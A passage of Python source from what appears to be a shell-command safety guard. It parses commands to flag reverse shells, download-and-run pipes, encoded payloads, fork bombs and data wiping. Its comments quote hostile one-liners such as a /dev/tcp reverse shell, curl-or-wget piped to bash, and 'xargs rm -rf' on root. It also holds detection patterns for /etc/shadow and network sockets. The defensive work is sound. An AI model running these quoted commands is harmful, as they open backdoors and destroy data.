    return _download_substituted(invocation, "<(")


def _printed_download(invocation: Invocation) -> Invocation | None:
    """``echo "$(curl URL)"``: a download a printer writes out through a command substitution."""
    if invocation.name not in ("echo", "printf"):
        return None
    return _download_substituted(invocation, "$(")


def _download_substituted(invocation: Invocation, kind: str) -> Invocation | None:
    """The first download inside a substitution of ``kind`` (``<(`` or ``$(``) in the command's words."""
    command = invocation.command
    for word in command.words:
        for sub in command.substitutions_in(word):
            if sub.kind == kind:
                found = _downloads(sub.script)
                if found is not None:
                    return found
    return None


def _downloads(script: Script) -> Invocation | None:
    for stages in walk(script):
        for invocation in stages:
            if invocation.name in _DOWNLOADERS:
                return invocation
    return None


def _substituted_download(invocation: Invocation) -> Invocation | None:
    """A download whose output this shell, interpreter or eval runs (``bash <(curl URL)``)."""
    if not (invocation.name in _SHELL_RUNNERS or _INTERPRETERS.match(invocation.name) or invocation.dynamic):
        return None
    command = invocation.command
    words = list(command.words) + [r.target for r in command.redirects if r.op in ("<", "<<<")]
    for word in words:
        for sub in command.substitutions_in(word):
            found = _downloads(sub.script)
            if found is not None:
                return found
    return None


_UNREADABLE = lazy_compile("[\ufffd\x00-\x08\x0e-\x1f]")
"""Bytes no text decodes to: a decode of what was not base64 (a payload decoded twice, or binary)."""


def _decoded(stages: list[Invocation]) -> str | None:
    """What ``echo TEXT | base64 -d | rev ...`` writes, worked out without running it.

    The text comes from ``echo``, ``printf`` (its escapes decoded), ``cat`` of a
    here-document, or the here-string of the first transforming stage (``tr
    a-z n-za-m <<< TEXT``); ``base64 -d``, ``rev`` and ``tr`` transform it.
    """
    if not stages:
        return None
    first = stages[0]
    text = written_text(first) if first.name in ("echo", "printf", "cat") else None
    rest = stages[1:]
    if text is None:
        command = first.command
        fed = [command.static(r.target) for r in command.redirects if r.op == "<<<"]
        if not fed or fed[0] is None:
            return None
        text, rest = fed[0] + "\n", stages
    for stage in rest:
        if stage.name == "tr":
            text = _tr(stage, text)
            if text is None:
                return None
        elif stage.name in ("base64", "openssl") and {"-d", "--decode", "-D"} & set(stage.args):
            import base64  # here, not at import: it loads struct, a cost to every hook process

            try:
                text = base64.b64decode(text.strip() + "==", validate=False).decode("utf-8", "replace")
            except (binascii.Error, ValueError):
                return None
            if _UNREADABLE.search(text):  # not base64 text: what the shell gets is not known here
                return None
        elif stage.name == "rev":
            text = "\n".join(line[::-1] for line in text.split("\n"))
        elif stage.name == "xxd" and "-r" in stage.args and {"-p", "-ps", "-plain"} & set(stage.args):
            try:  # xxd -r -p: hex digits back to bytes
                text = bytes.fromhex("".join(text.split())).decode("utf-8", "replace")
            except ValueError:
                return None
            if _UNREADABLE.search(text):
                return None
        else:
            return None
    return text


def decoded_output(script: Script) -> str | None:
    """What a substitution of one decoding pipeline prints (``$(xxd -r -p <<< 2f65…)``, ``$(echo L2V0… |
    base64 -d)``), worked out; None when it decodes nothing or cannot be worked out."""
    if len(script.pipelines) != 1:
        return None
    for stages in walk(script):
        if not _encoded(stages):
            return None
        decoded = _decoded(stages)
        return None if decoded is None else decoded.rstrip("\n")
    return None


def _deciphers(stage: Invocation) -> bool:
    """``rev``, or ``tr`` with a letter cipher (``tr 'A-Za-z' 'N-ZA-Mn-za-m'``: the same letters in
    another order); a case change (``tr a-z A-Z``) or a deletion is no cipher."""
    if stage.name == "rev":
        return True
    if stage.name != "tr":
        return False
    values = [v for v in _values(stage) if not v.startswith("-")]
    if len(values) != 2 or len(values) != len(stage.args):
        return False
    source, target = (_tr_set(v) for v in values)
    return len(source) >= 26 and source.isalpha() and source != target and sorted(source) == sorted(target)


def _tr(stage: Invocation, text: str) -> str | None:
    """``tr SET1 SET2`` (ranges such as ``a-z`` and ``n-za-m``) or ``tr -d SET``, applied to ``text``."""
    values = _values(stage)
    if len(values) != len(stage.args):
        return None
    sets = [_tr_set(v) for v in values if not v.startswith("-")]
    if values[:1] == ["-d"] and len(sets) == 1:
        return text.translate({ord(c): None for c in sets[0]})
    if len(sets) != 2 or any(v.startswith("-") for v in values) or not sets[1]:
        return None
    source, target = sets
    target = target + target[-1] * max(0, len(source) - len(target))
    return text.translate(str.maketrans(source, target[: len(source)]))


def _tr_set(spec: str) -> str:
    spec = ansi_c(spec) if "\\" in spec else spec
    out: list[str] = []
    i = 0
    while i < len(spec):
        if i + 2 < len(spec) and spec[i + 1] == "-" and spec[i] <= spec[i + 2]:
            if ord(spec[i + 2]) - ord(spec[i]) > 256:
                return ""  # a range wider than a byte: not a cipher worth working out
            out.extend(chr(c) for c in range(ord(spec[i]), ord(spec[i + 2]) + 1))
            i += 3
        else:
            out.append(spec[i])
            i += 1
    return "".join(out)


def _is_decoder(invocation: Invocation) -> bool:
    args = set(invocation.args)
    name = invocation.name
    return (
        (name in ("base64", "base32", "basenc") and bool(args & {"-d", "--decode", "-D"}))
        or (name == "xxd" and "-r" in args)
        or (name == "openssl" and bool(args & {"-d", "base64"}))
        or name in ("rev", "gunzip", "zcat", "uudecode", "bunzip2", "xzcat")
    )


_ESCAPES = lazy_compile(r"\\(?:x[0-9A-Fa-f]|u[0-9A-Fa-f]|0?[0-7]{2,3})")
"""A byte written as an escape (``\\x69``, ``\\151``): text spelled so that it cannot be read."""


def _encoded(stages: list[Invocation]) -> bool:
    """Whether the text these stages write was decoded or transformed (``base64 -d``, ``rev``, ``tr``,
    ``printf '\\x69\\x64'``) rather than written as it reads."""
    if any(_is_decoder(s) or s.name == "tr" for s in stages):
        return True
    first = stages[0] if stages else None
    return (
        first is not None
        and first.name in ("echo", "printf")
        and any(_ESCAPES.search(first.command.render(word)) for word in first.command.words[1:])
    )


def _interactive(invocation: Invocation) -> bool:
    mode = shell_mode(invocation)
    return mode.interactive or mode.reads_stdin


def _computed_code(invocation: Invocation, home: str) -> Verdict | None:
    """Code a shell gets from a substitution that can be worked out: ``bash -c "$(echo … | base64 -d)"``."""
    applescript = invocation.name == "osascript"  # osascript -e "$(echo … | base64 -D)"
    if not (invocation.name in _SHELL_RUNNERS or invocation.dynamic or applescript):
        return None
    command = invocation.command
    for stages in substituted(command, command.words):
        decoded = _decoded(stages)
        if decoded is not None:
            code = f"osascript -e {shlex.quote(decoded)}" if applescript else decoded
            verdict = check_command(code, home=home)
            if verdict is not None:
                why = f"{verdict.why}; computed as {decoded.strip()!r}"
                return Verdict(verdict.category, _piece(invocation.text), why)
        elif any(_is_decoder(s) for s in stages):
            return _verdict(OBFUSCATED, invocation, f"runs decoded data in {invocation.name or 'a shell'}")
    return None


def _check_pipeline(stages: list[Invocation], home: str) -> Verdict | None:
    piece = _piece(" | ".join(stage.text for stage in stages))
    if _terminal_listener(stages) is not None:
        return Verdict(REMOTE_ACCESS, piece, "waits in the terminal for a shell to connect back (nc -l)")
    # One pass: what flowed in so far is remembered, not searched again at each stage (linear).
    source = listener = unseen = None
    decoder = first_runner = False
    for index, stage in enumerate(stages):
        runs = index > 0 and _runs_stdin(stage)
        if not runs and source is not None and stage.name in SHELLS:
            script_file = shell_mode(stage).file
            if script_file:
                # wget -O- URL | bash ddexec.sh argv0: the script reads the download as its input (DDexec
                # loads the binary that arrives into its own memory: a program run without a file on disk).
                why = f"feeds a download from {source.name} to the script {script_file}"
                return Verdict(UNJUDGED_SCRIPT, piece, why)
        if not runs:
            source = source or (
                stage
                if (stage.name in _DOWNLOADERS and not _local_urls(stage))
                or _fetches_url(stage)
                or socket_source(stage) is not None
                else _fed_download(stage)
            )
            listener = listener or (stage if stage.name in _NETWORK_TOOLS else None)
            unseen = unseen or (stage if stage.dynamic or stage.name.startswith("$") else None)
            decoder = decoder or _is_decoder(stage)
            continue
        if source is not None:
            return Verdict(
                REMOTE_CODE, piece, f"pipes a download from {source.name or 'a program'} into {stage.name}"
            )
        if listener is not None:
            return Verdict(BACKDOOR, piece, f"runs what arrives from {listener.name} in {stage.name}")
        if unseen is not None:
            # ${CURL_CMD} -fsSL ${url}/s.sh | bash: malware keeps its renamed downloader in a variable.
            at = len(unseen.command.words) - len(unseen.args) - 1
            program = unseen.command.render(unseen.command.words[at]) if at >= 0 else "a variable"
            why = f"pipes the output of {program}, a program named only at run time, into {stage.name}"
            return Verdict(UNJUDGED_SCRIPT, piece, why)
        if first_runner:
            continue  # a later runner reads the output of code, not what was decoded
        first_runner = True
        upstream = stages[:index]
        decoded = _decoded(upstream)
        if decoded is None and decoder:
            return Verdict(OBFUSCATED, piece, f"pipes decoded data into {stage.name}")
        interpreter = stage.name not in SHELLS and _INTERPRETERS.match(stage.name) is not None
        if decoded is not None and stage.name == "osascript":
            # echo … | base64 -D | osascript -l JavaScript: the decoded text is the script it runs
            verdict = check_command(_as_osascript(stage, decoded), home=home)
            if verdict is not None:
                return Verdict(verdict.category, piece, f"{verdict.why}; decoded and piped into osascript")
        elif decoded is not None and stage.name == "security":
            lines = [
                ln.strip() for ln in decoded.splitlines() if ln.strip() and not ln.lstrip().startswith("#")
            ]
            for line in lines:
                verdict = check_command(f"security {line}", home=home)
                if verdict is not None:
                    return Verdict(verdict.category, piece, f"{verdict.why}; piped into security's own shell")
        elif decoded is not None and interpreter:
            verdict = _judge_code(decoded, stage, home, how=f"piped into {stage.name}", piece=piece)
            if verdict is not None:
                return verdict
        if interpreter and stage.name not in AWKS and _as_root(stage):
            # echo 'esyscmd(CMD)' | sudo m4: code of one's own run as root, as `sudo m4 <<< CODE` is
            return Verdict(SUDO_INSTALL, piece, f"runs the code piped into {stage.name} as root")
        if decoded is not None and not interpreter:
            verdict = check_command(decoded, home=home)
            if verdict is not None:
                return Verdict(
                    verdict.category, piece, f"{verdict.why}; piped in as {_piece(decoded.strip())!r}"
                )
        if decoded is not None and _encoded(upstream):
            # echo cHdk | base64 -d | sh: what it decodes to reads as harmless, but code written so that
            # no reader sees it is the attacker's habit, not a developer's: a person confirms it.
            shown = _piece(decoded.strip())
            why = f"pipes encoded text into {stage.name} (it decodes to {shown!r}), code hidden from a reader"
            return Verdict(UNJUDGED_SCRIPT, piece, why)
    fetched = source or next((found for s in stages[:1] if (found := _printed_download(s)) is not None), None)
    cipher = next((s for s in stages[1:] if _deciphers(s)), None) if fetched is not None else None
    if fetched is not None and cipher is not None:
        # curl -sL RAW_URL | tr 'n-za-mN-ZA-M' 'a-mn-zA-MN-Z' | rev: a dead drop, an address or a payload
        # kept in a public page under a letter rotation (a macOS dropper's C2 lookup)
        why = (
            f"deciphers what {fetched.name or 'a program'} fetches ({cipher.name}): a dead drop's hidden text"
        )
        return Verdict(UNJUDGED_SCRIPT, piece, why)
    shells = [s for s in stages if s.name in SHELLS and _interactive(s)]
    network = [s for s in stages if s.name in _NETWORK_TOOLS or _tls_client(s) or _ssh_stdio(s)]
    if shells and network and len(stages) > 1:
        return Verdict(BACKDOOR, piece, f"connects {shells[0].name} to the network through {network[0].name}")
    from .tactics.uploads import remote_runner

    for stage in stages[1:]:
        remote = remote_runner(stage)
        if remote is not None:  # cat deploy.sh | ssh HOST 'bash -s': as ssh HOST 'bash -s' < deploy.sh
            why = f"pipes its output into {remote[1]} on {remote[0]}, which runs it as code there"
            return Verdict(UPLOAD, piece, why)
    for index, stage in enumerate(stages[1:], start=1):
        # echo / | xargs rm -rf: the arguments xargs adds can be worked out.
        check = _CHECKS.get(stage.name)
        added = (
            _xargs_input(stages[:index], stage.name, home)
            if "xargs" in stage.wrappers and check is not None
            else None
        )
        if added is not None and check is not None:
            replace = _xargs_replace(stage.options_of("xargs") or ())
            if replace:  # xargs -I% dd of=%: the input goes where % is
                args = tuple(a.replace(replace, added.split()[0]) if replace in a else a for a in stage.args)
            else:
                args = (*stage.args, *added.split())
            extended = stage.replace(args=args)
            verdict = check(extended, home)
            if verdict is not None:
                return Verdict(verdict.category, piece, f"{verdict.why}; the arguments come from the pipe")
    for stage in stages:
        if "xargs" in stage.wrappers and stage.name in ("docker", "podman"):
            values = _values(stage)
            if values[:2] in (["volume", "rm"], ["volume", "remove"]) and any(
                _is_volume_listing(s) for s in stages
            ):
                return Verdict(DOCKER, piece, "deletes every volume, and the data in it")
    receiver = _receiving_listener(stages)
    if receiver is not None:
        relay = next((stage for stage in stages[1:] if stage.name in _NETWORK_TOOLS), None)
        why = (
            f"relays whoever connects to {relay.name} {' '.join(_values(relay))} (a port forward)"
            if relay is not None
            else f"{receiver.name} -l takes in whatever anyone on the network sends (a drop point for all)"
        )
        return Verdict(REMOTE_ACCESS, piece, why)
    return None


def _as_osascript(stage: Invocation, text: str) -> str:
    """``osascript [-l LANG] -e TEXT``: the script osascript reads from its input, given inline."""
    values = _values(stage)
    language = values[values.index("-l") : values.index("-l") + 2] if "-l" in values[:-1] else []
    return shlex.join(["osascript", *language, "-e", text])


def _xargs_replace(words: tuple[str, ...]) -> str | None:
    """The placeholder of ``xargs -I %`` (or ``-I%``, ``--replace=%``, ``-i``: ``{}``), if any."""
    for index, word in enumerate(words):
        if word == "-I" and index + 1 < len(words):
            return words[index + 1]
        if word.startswith("-I") and len(word) > 2:
            return word[2:]
        if word.startswith("--replace"):
            return word.partition("=")[2] or "{}"
        if word == "-i":
            return "{}"
    return None


def _tls_client(invocation: Invocation) -> bool:
    """``openssl s_client``/``s_server``: a network pipe, as good as netcat for a shell."""
    return invocation.name == "openssl" and bool({"s_client", "s_server"} & set(_values(invocation)))


def _ssh_stdio(invocation: Invocation) -> bool:
    """``ssh -W HOST:PORT``: ssh's input and output forwarded to a TCP port, netcat through a jump host."""
    return invocation.name == "ssh" and any(
        v == "-W" or (v.startswith("-W") and ":" in v) for v in _values(invocation)
    )


_DELETERS = frozenset({"rm", "shred", "unlink"})
_LISTING_FINDERS = frozenset({"find", "ls", "grep", "egrep", "fgrep"})


def _xargs_input(upstream: list[Invocation], program: str, home: str) -> str | None:
    """What xargs is fed, when it can be worked out: echo's words, or the paths find starts from.

    ``find ... | xargs rm`` deletes what ``find ... -delete`` does, and is judged as it is (see
    :func:`_find`): ``find . -type f -executable | xargs rm -f`` picks some files of the project."""
    decoded = _decoded(upstream)
    if decoded is not None:
        return decoded
    finder = upstream[0] if upstream and upstream[0].name in _LISTING_FINDERS else None
    if finder is None:
        return None
    if finder.name != "find" and finder.name != "ls":
        return _grepped_files(finder)
    if finder.name == "find":
        if program in _DELETERS:
            if _find(finder.replace(args=(*finder.args, "-delete")), home) is None:
                return None
        elif find_narrowed(_values(finder)) is not None:
            return None
    if finder.name == "ls":
        if len(upstream) > 1:
            return None  # ls -t | tail -n +5 | xargs rm: the files the filter keeps, not known
        return (
            " ".join(v for v in _values(finder) if not v.startswith("-")) or "./*"
        )  # ls: the directory's files
    starts = []
    for value in _values(finder):
        if value.startswith(("-", "(", "!")):
            break
        starts.append(value)
    # find ~ -type f | xargs rm -f: every file under the start.
    return " ".join(f"{start.rstrip('/')}/*" for start in starts or ["."])


_GREP_VALUED = frozenset({"-e", "--regexp", "-f", "--file", "-m", "--max-count", "-A", "-B", "-C",
                          "--include", "--exclude", "--exclude-dir", "-d", "-D", "--context",
                          "--label"})  # fmt: skip
_GREP_SHORT_VALUED = frozenset("efmABCdD")


def _grepped_files(grep: Invocation) -> str | None:
    """``grep -RlE '(wget|curl)' /etc/cron* | xargs rm -rf``: the places grep searches, whose files it
    lists (``-l``, or ``-r`` output cut down to file names) to what xargs runs; a later filter (``grep
    -v``, ``cut -d:``) only narrows them, so they are judged as the places themselves."""
    values = _values(grep)
    flags = "".join(v[1:] for v in values if v[:1] == "-" and v[1:2] != "-")
    if not ({"l", "r", "R"} & set(flags) or {"--files-with-matches", "--recursive"} & set(values)):
        return None
    operands, skip, given = [], False, False
    for value in values:
        if skip:
            skip = False
        elif value in _GREP_VALUED:
            skip = True
            given = given or value in ("-e", "--regexp", "-f", "--file")
        elif value.startswith("--"):
            given = given or value.startswith(("--regexp=", "--file="))
        elif value.startswith("-") and value != "-":
            option, attached = option_cluster(value, _GREP_SHORT_VALUED)
            given = given or option in ("e", "f")
            skip = bool(option) and not attached
        else:
            operands.append(value)
    paths = operands if given else operands[1:]
    return " ".join(paths) or None


def _ties_shell(invocation: Invocation, fd: str, target: str) -> bool:
    """Whether a redirection to ``/dev/tcp/HOST/PORT`` ties a shell to that connection: a shell given it
    (``bash -i >& /dev/tcp/h/p 0>&1``, ``sh -i 5<> /dev/tcp/h/p 0<&5``) or the running shell's own input
    or output (``exec 0<>/dev/tcp/h/p``, ``exec >&/dev/tcp/h/p``). ``exec 3<>/dev/tcp/h/p`` only opens a
    descriptor (a probe, or a transfer by ``echo >&3`` / ``cat <&3``); what then reads it as code is
    :class:`_Sockets`' to judge, and ``</dev/tcp/h/p``, ``echo > /dev/tcp/h/p`` are probes."""
    if invocation.name in SHELLS:
        return not (_LOCAL_PROBE.match(target) and not _interactive(invocation))
    return invocation.name == "exec" and fd in ("", "0", "1", "2")


class _Sockets:
    """The descriptors a script opens to network peers (``exec 5<>/dev/tcp/h/p``), followed in script
    order, and what is tied to them: a shell or interpreter reading or writing one (``sh <&196
    >&196``), a command named at run time writing to one (``$line 2>&5 >&5``), or code run after a
    command read from one (``cat <&5 | while read l; do $l; done``, ``read -r c <&5; eval "$c"``)."""

    def __init__(self) -> None:
        self.opened: dict[str, str] = {}
        self.local: set[str] = set()
        self.read_from = ""

    def judge(self, stages: list[Invocation]) -> Verdict | None:
        reader = ""
        for index, invocation in enumerate(stages):
            fds = self._socket_fds(invocation)
            name = invocation.name
            if name == "exec":
                for redirect in invocation.command.redirects:
                    target = invocation.command.static(redirect.target) or ""
                    if redirect.fd not in ("", "0", "1", "2") and _NET_DEVICE.match(target):
                        self.opened[redirect.fd] = target
                    elif redirect.fd not in ("", "0", "1", "2"):
                        self.local.add(redirect.fd)  # exec 3<input.txt: a file, whatever reads it
                    elif redirect.fd in ("", "0", "1", "2") and fds:
                        # exec 0<&3 1>&3: the running shell's own input and output become the connection
                        why = f"ties the shell's own input or output to {self.opened[fds[0]]}"
                        return _verdict(BACKDOOR, invocation, why)
                continue
            computed = invocation.dynamic or name.startswith("$") or name in ("eval", "source", ".")
            if fds and (runs_scripts(name) or computed):
                peer = self.opened[fds[0]]
                what = name or "a computed command"
                why = f"connects {what} to the network connection {peer} (descriptor {fds[0]})"
                return _verdict(BACKDOOR, invocation, why)
            inherited = self._inherited_input(invocation)
            if inherited and (_runs_stdin(invocation) or (name in SHELLS and _interactive(invocation))):
                # sh <&196 >&196 after `exec 196<>/dev/tcp/h/p` in an earlier call of a kept shell
                why = (
                    f"runs {name} on descriptor {inherited}, opened before this command (a kept connection?)"
                )
                return _verdict(UNJUDGED_SCRIPT, invocation, why)
            if computed and self.read_from:
                why = f"runs a command read from the network connection {self.read_from}"
                return _verdict(BACKDOOR, invocation, why)
            if index > 0 and reader and _runs_stdin(invocation):
                return _verdict(BACKDOOR, invocation, f"runs what arrives from {reader} in {name}")
            read = next((fd for fd in fds if self._reads(invocation, fd)), None)
            if read is not None:
                reader = self.read_from = self.opened[read]
        return None

    def _socket_fds(self, invocation: Invocation) -> list[str]:
        """The open network descriptors ``invocation`` reads or writes (``<&5``, ``>&5``, ``read -u 5``)."""
        if not self.opened:
            return []
        redirects = invocation.command.redirects
        fds = [r.target for r in redirects if r.op in ("<&", ">&") and r.target in self.opened]
        if invocation.name == "read":
            values = _values(invocation)
            fds += [v for flag, v in itertools.pairwise(values) if flag == "-u" and v in self.opened]
        return fds

    def _inherited_input(self, invocation: Invocation) -> str:
        """A descriptor above 2 that ``invocation`` reads its input from and this command did not open."""
        own = {r.fd for r in invocation.command.redirects if r.op in ("<", "<>", ">", ">>")}
        return next(
            (
                r.target
                for r in invocation.command.redirects
                if r.op == "<&"
                and r.fd in ("", "0")
                and r.target.isdigit()
                and int(r.target) > 2
                and r.target not in self.opened
                and r.target not in self.local
                and r.target not in own
            ),
            "",
        )

    @staticmethod
    def _reads(invocation: Invocation, fd: str) -> bool:
        return invocation.name == "read" or any(
            r.op == "<&" and r.target == fd and r.fd in ("", "0") for r in invocation.command.redirects
        )


def _check_redirects(invocation: Invocation, home: str) -> Verdict | None:
    """Where a command's output goes: a block device, a system file, a network socket."""
    command = invocation.command
    held = None
    for redirect in command.redirects:
        target = command.shape(redirect.target)  # > /etc/cron.d/$(hostname): /etc/cron.d/…
        if target is None:
            if invocation.name in _DOWNLOADERS and redirect.op in (">", ">>", ">|"):
                # curl URL > >(bash): the download flows into what the substitution runs.
                for sub in command.substitutions_in(redirect.target):
                    runner = next((s for p in walk(sub.script) for s in p[:1] if _runs_stdin(s)), None)
                    if sub.kind == ">(" and runner is not None:
                        why = f"pipes a download from {invocation.name} into {runner.name}"
                        return _verdict(REMOTE_CODE, invocation, why)
            continue
        if _NET_DEVICE.match(target) and _ties_shell(invocation, redirect.fd, target):
            return _verdict(BACKDOOR, invocation, f"connects a shell to the network through {target}")
        if redirect.op in ("<", "<<", "<<<", "<&"):
            continue
        if redirect.op in (">&-", "<&-") or (
            redirect.op == ">&" and (target.isdigit() or target in ("", "-"))
        ):
            continue  # 1>&2, >&-: a file descriptor duplicated or closed, not a file named "2"
        if _block_device(target):
            return _verdict(DISK, invocation, f"writes straight to the block device {target}")
        found = _written(target, home, invocation.cwd)
        if found:
            how = "appends to" if redirect.op in (">>", "&>>") else "overwrites"
            verdict = _verdict(found[0], invocation, f"{how} {found[1]}")
            if _firm(verdict):
                return verdict
            held = held or verdict
            continue
        # an absolute path is normalised without a working directory too: //.x, /./x, /tmp/../x
        absolute = target.startswith("/")
        path = normalize_path(target, home=home, cwd=invocation.cwd) if invocation.cwd or absolute else target
        if re.fullmatch(r"/(?:private/)?etc/[^/]+", path):
            # cd /etc && echo x >> agent: a file of the machine's own configuration, whichever.
            return _verdict(SYSTEM_FILES, invocation, f"writes {path}, in the machine's configuration")
        top = top_level_file(path)
        if top is not None:
            held = held or _verdict(top[0], invocation, f"writes {path}, {top[1]}")
    return held


def _fork_bomb(script: Script) -> str | None:
    """The definition of a function that runs itself in the background or a pipe, if any."""
    for function in script.functions:
        if _runs_program_found(function):
            continue
        for pipeline in function.body.pipelines:
            for command in pipeline:
                calls_itself = bool(command.words) and command.words[0] == function.name
                if calls_itself and (len(pipeline) > 1 or command.background):
                    return function.text
    return None


_LOOKUPS = r"(?:which|type\s+-[pP]|whence\s+-p)\s+"


def _runs_program_found(function: Function) -> bool:
    """``pbcopy() { p="$(which pbcopy)"; echo x | "$p"; }``: the body looks its own name up and runs
    what it found, a file on the PATH (``which``, ``type -P`` find no function; ``command -v`` does), and
    never names itself otherwise."""
    name = re.escape(function.name)
    body = function.text.split("{", 1)[-1] if "{" in function.text else function.text
    lookups = re.compile(_LOOKUPS + name + r"(?![\w.+-])")
    if not name or not lookups.search(body):
        return False
    # what is left names it only as a variable (`pbcopy=...`, `"$pbcopy"`, `${pbcopy}`), or not at all
    return re.search(r"(?<![\w.+/${-])" + name + r"(?![\w.+=-])", lookups.sub("", body)) is None


def _nested_code(invocation: Invocation) -> list[str]:
    if invocation.name in SHELLS:
        script = shell_mode(invocation).script
        return [script] if script else []
    if invocation.name == "eval":
        return [" ".join(invocation.command.render(w) for w in invocation.args)]
    return []


def _check_invocation(invocation: Invocation, home: str) -> Verdict | None:
    name = invocation.name
    if not name and not invocation.dynamic:
        return None  # only redirections: _check_redirects judges them
    if invocation.dynamic:
        download = _substituted_download(invocation)
        if download is not None:
            return _verdict(REMOTE_CODE, invocation, f"runs the output of {download.name} as a command")
        return _guessed(invocation, home) or check_targets(invocation, home)
    first = _values(invocation)[:1]
    if name.startswith("$") and first and first[0].startswith("-"):
        # $c -rf ~: a variable the line does not set, given options, is judged as what it could be.
        guessed = _guessed(invocation, home)
        if guessed is not None:
            return guessed
    check = _CHECKS.get(name)
    if check is None:
        if name.startswith("mkfs"):
            check = _disk_tool
        elif _framework_script(invocation) is not None:
            check = _attack_framework
        elif _INTERPRETERS.match(name):
            check = _interpreter
        else:
            check = _fed_to_unseen_program
    verdict = check(invocation, home) if check is not None else None
    if verdict is not None:
        return verdict.by(f"{check.__name__.strip('_')} rule, for {name}" if check is not None else "")
    verdict = check_targets(invocation, home)
    if verdict is not None:
        return verdict.by("operand rule (system files and block devices, whatever the program)")
    download = _substituted_download(invocation)
    if download is not None:
        why = f"runs code downloaded by {download.name} in {name}"
        return _verdict(REMOTE_CODE, invocation, why).by("substituted download rule")
    verdict = _computed_code(invocation, home)
    if verdict is not None:
        return verdict.by("computed code rule")
    for code in _nested_code(invocation):
        if _fork_bomb(parse_nested(code)):
            why = "a function that spawns copies of itself without end"
            return _verdict(FORK_BOMB, invocation, why).by("fork bomb rule")
    return None


def _guessed(invocation: Invocation, home: str) -> Verdict | None:
    """A computed command name, judged as the destructive programs it could be."""
    for guess in ("rm", "chmod", "chown", "dd"):
        verdict = _CHECKS[guess](_renamed(invocation, guess), home)
        if verdict is not None:
            why = f"{verdict.why}, if the computed command is {guess}"
            return Verdict(verdict.category, verdict.piece, why)
    return None


def _renamed(invocation: Invocation, name: str) -> Invocation:
    return invocation.replace(name=name, dynamic=False)


# -- the public check ----------------------------------------------------------------------

_LOOK_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh"})


def _looks_dangerous(command: str) -> str | None:
    """The category a command that does not parse looks like, by its unquoted words (linear)."""
    # Quoted text is a message or a pattern more often than code: leave it out of the look.
    unquoted = _QUOTED.sub(" ", command)
    words = set(unquoted.replace("|", " | ").replace(";", " ; ").split())
    if "rm" in words and any(
        w.startswith("-") and not w.startswith("--") and ("r" in w or "R" in w) for w in words
    ):
        return FILESYSTEM
    if any(w.startswith(("mkfs", "fdisk", "wipefs")) for w in words) or (
        "dd" in words and any(w.startswith("of=/dev/") for w in words)
    ):
        return DISK
    if words & _DOWNLOADERS and words & _LOOK_SHELLS and "|" in words:
        return REMOTE_CODE
    if _REMOTE_SOCKET.search(unquoted):
        return BACKDOOR
    if "--no-verify" in unquoted:
        return GIT_HOOKS
    if any(f"/etc/{name}" in unquoted for name in ("passwd", "shadow", "sudoers")):
        return SYSTEM_FILES
    return None


_REMOTE_SOCKET = lazy_compile(r"/dev/(?:tcp|udp)/(?!localhost/|127\.|::1/)")
_QUOTED = lazy_compile(r"'[^']*'|\"(?:[^\"\\]|\\.)*\"")


def _check_malformed(command: str, home: str) -> Verdict | None:
    """A command bash would refuse: judge the ways it could be meant, else its look.

    What parsed was judged already. Repairs are closing the open quote or
    parenthesis, or dropping a stray quote; if any repair is dangerous, the
    command is blocked. If none parses, a dangerous look blocks it.
    """
    present = {char for char in "'\"`(" if char in command}
    closings = ("'", '"', ")", "`", "\"'", "'\"", ")'", ')"')
    # Only a character the command has can be left open (each repair is a parse).
    repairs = [command + c for c in closings if all((x if x != ")" else "(") in present for x in c)]
    for quote in ("'", '"', "`"):
        index = command.rfind(quote)
        if index >= 0:
            repairs.append(command[:index] + command[index + 1 :])
    parsed = False
    with one_reread_bound(len(command)):  # the repairs parse nearly the same text: one bound
        for repaired in repairs:
            script = parse(repaired)
            if script.malformed:
                continue
            parsed = True
            verdict = _check_script(script, home, current_policy())
            if verdict is not None:
                why = f"{verdict.why}; the command is malformed"
                rule = f"{verdict.rule}, on a repaired command"
                reason = f"{verdict.category}: {verdict.piece} ({why})"
                return verdict.replace(why=why, reason=reason, rule=rule)
    category = None if parsed else _looks_dangerous(command)
    if category is not None:
        why = "the command does not parse, and looks dangerous"
        return Verdict(category, _piece(command), why, rule="malformed command rule")
    if _HANDS_TO_SHELL.search(command):
        # eval "$(a=(…);for i in 1 2;{ printf %s "${a[$i]}";})": bash runs it, the parser drops text
        why = (
            "part of it does not parse as the guard reads it, and text goes to a shell: "
            "what runs is hidden from a reader"
        )
        return Verdict(UNJUDGED_SCRIPT, _piece(command), why, rule="malformed command rule")
    return None


_HANDS_TO_SHELL = lazy_compile(
    r"(?:^|[;&|({\s])(?:eval|source|\.)\s"
    r"|\|\s*(?:[^\s|;&]{0,200}/)?(?:ba|da|z|k|mk|)sh\b"
    r"|\|\s*\$\{?(?:BASH|SHELL|0)\b|\$\{!#\}"
    r"|\b(?:ba|da|z|k|)sh\s+(?:-\w{1,20}\s+){0,4}-\w{0,20}c\b"
    r"|(?:ba|da|z|k|)sh\s*<<<"
)
"""Text handed to a shell as code: ``eval``, ``source``, ``| sh``, ``| $BASH``, ``sh -c``, ``sh <<<``."""


class _Findings:
    """The findings of one decision, weighed by the policy as they come.

    A blocking finding ends the decision; an ask is kept (the first one) while the
    rest of the command is still judged, since a later statement may block; an
    allowed category is passed over. A named danger's ask replaces an ``unjudged
    script`` one: what the guard saw says more than what it could not see.
    """

    __slots__ = ("asked", "policy")

    def __init__(self, policy: Policy) -> None:
        self.policy = policy
        self.asked: Verdict | None = None

    def blocks(self, verdict: Verdict | None, rule: str, perhaps: bool = False) -> Verdict | None:
        """``verdict`` (named after ``rule``) if it blocks; remember it if it asks. With ``perhaps`` the
        finding is about a command line a program was given that it may run or only show
        (:class:`~.carriers.Perhaps`): at most an ask (unattended, nobody answers: a block)."""
        decided = in_argument(verdict, self.policy) if perhaps else self.policy.apply(verdict)
        if decided is None:
            return None
        decided = decided.by(rule)
        if decided.decision == "block":
            return decided
        if self.asked is None or (
            self.asked.category == UNJUDGED_SCRIPT and decided.category != UNJUDGED_SCRIPT
        ):
            self.asked = decided
        return None


def _check_script(script: Script, home: str, policy: Policy) -> Verdict | None:
    findings = _Findings(policy)
    bomb = _fork_bomb(script)
    if bomb is not None:
        why = "a function that spawns copies of itself without end"
        verdict = findings.blocks(Verdict(FORK_BOMB, _piece(bomb), why), "fork bomb rule")
        if verdict is not None:
            return verdict
    verdict = findings.blocks(_listed_disks_destroyed(script, home), "disk listing rule")
    if verdict is not None:
        return verdict
    judged: set[Invocation] = set()
    sockets = _Sockets()
    with collecting_nested() as nested, tactics.uploads.written_here():
        for stages in walk(script):
